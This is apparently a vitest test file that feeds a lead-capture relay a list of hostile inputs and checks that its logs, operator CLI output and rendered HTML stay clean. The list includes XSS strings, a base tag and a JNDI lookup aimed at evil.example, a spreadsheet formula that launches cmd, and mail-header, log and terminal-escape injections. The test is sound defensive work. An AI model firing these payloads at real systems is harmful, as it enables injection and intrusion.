import { expect, test } from 'vitest';
import { runLeadsCommand } from '../../../src/relay/cli/leads-command.js';
import { readConfig } from '../../../src/relay/config/config.js';
import { crmKey, pageOrigin } from '../fixture.js';
import { leadBody, setUpBadInput } from './bad-input-fixture.js';

const bench = setUpBadInput({ PROOF_OF_WORK: 'off' });

/** What somebody else reads later: the operator in a terminal or a table, staff in a mail, a program in a log. */
const texts: readonly (readonly [string, string])[] = [
  ['an element', '<script>alert(1)</script>'],
  ['an attribute', '"><img src=x onerror=alert(1)>'],
  ['a link', 'javascript:alert(1)'],
  ['a closed title', '</title><script>alert(1)</script>'],
  ['a closed area', '</textarea><svg onload=alert(1)>'],
  ['an entity', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['a comment', '<!--><script>alert(1)--></script>'],
  ['a base', '<base href=//evil.example>'],
  ['a formula with a program', '=cmd|"/c calc"!A1'],
  ['a formula with a plus', '+1+1'],
  ['a formula with a minus', '-1-1'],
  ['a formula with an at', '@SUM(A1:A9)'],
  ['a header of a mail', 'Ann\r\nBcc: all@example.com'],
  ['a line of a log', '\n{"level":"info","lead":"R-FORGED"}'],
  ['colours of a terminal', '\u001b[31mred\u001b[0m\u001b]0;title\u0007'],
  ['a terminal’s second alphabet', '\u009b31m'],
  ['a template', '{{7*7}}'],
  ['another template', `$${'{7*7}'}`],
  ['a look-up', `$${'{jndi:ldap://evil.example/a}'}`],
  ['a format', '%s%n%x'],
  ['NUL', 'a\0b'],
  ['marks on a letter', `a${'\u0301'.repeat(10_000)}`],
  ['look-alikes', 'аpple.com'],
  ['a word without end', 'x'.repeat(50_000)],
  ['joiners alone', '\u200d\u200d\u200d'],
  ['a name that turns round', 'Ann \u202egpj.exe\u202c'],
];

test.each(texts)('%s: a person’s words, and nothing else anywhere', async (_what, text) => {
  const before = bench.logLines.length;
  const line = await bench.sendLead(
    `${leadBody.replace(/&token=.*/, '')}&data[ext_request][104][value]=${encodeURIComponent(text)}`,
  );
  expect(line).toMatchObject({ status: 200, lead: expect.any(String) });
  // The log: one line for the send, with none of it.
  for (const said of bench.logLines.slice(before))
    expect(said).not.toContain(JSON.stringify(text).slice(1, -1));
  expect(bench.logLines.slice(before).join('')).not.toContain('\n');

  // The operator: it comes back as it was, on one line, without what a terminal obeys.
  const { port } = new URL(bench.relay.url);
  const settings = { CRM_URL: bench.crm.url, CRM_KEY: crmKey, PORT: port };
  let shown = '';
  await runLeadsCommand(readConfig(settings), [{ do: 'show', receipt: line.lead ?? '' }], (said) => {
    shown += said;
  });
  expect(JSON.parse(shown).data.ext_request['104'].value).toBe(text);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
  expect(shown).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);

  // The visitor's own page without script, where something is missing.
  const body = new URLSearchParams({ 'ext_request.104': text });
  const init = { method: 'POST', headers: { Origin: pageOrigin }, body };
  const html = await (await fetch(`${bench.relay.url}/f/34`, init)).text();
  expect(html).toContain('name="ext_request.104"');
  expect(html.match(/<script/g)).toHaveLength(1);
  expect(html).not.toMatch(/<(img|svg|base)/);
});
